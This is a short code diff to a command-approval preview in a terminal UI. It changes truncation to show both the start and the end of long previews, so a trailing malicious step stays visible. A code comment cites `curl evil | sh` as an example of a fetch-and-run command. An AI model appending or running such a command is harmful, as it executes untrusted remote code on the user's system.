@@ -209,7 +209,12 @@ def _confirm_rows(state: UiState, width: int, budget: int) -> list[Row]:
         body.extend(((style, p),) for p in _columns(sanitize(line), max(1, width - 2)))
     room = max(1, budget - 2)
     if len(body) > room:
-        body = [*body[: room - 1], (("class:dim", f"… {len(body) - room + 1} more preview lines"),)]
+        # head and tail: what a command line or a diff ends with matters as much as how it starts
+        # (`…; curl evil | sh` must be on screen when the user presses y)
+        keep = max(1, room - 1)
+        head, tail = keep - keep // 2, keep // 2
+        cut = (("class:dim", f"… {len(body) - keep} more preview lines …"),)
+        body = [*body[:head], cut, *(body[-tail:] if tail else [])]
     rows.extend((("", "  "), *r) for r in body)
     footers = (
         f"y/Enter approve · n reject · Esc reject & stop · a always allow {confirm.name}",
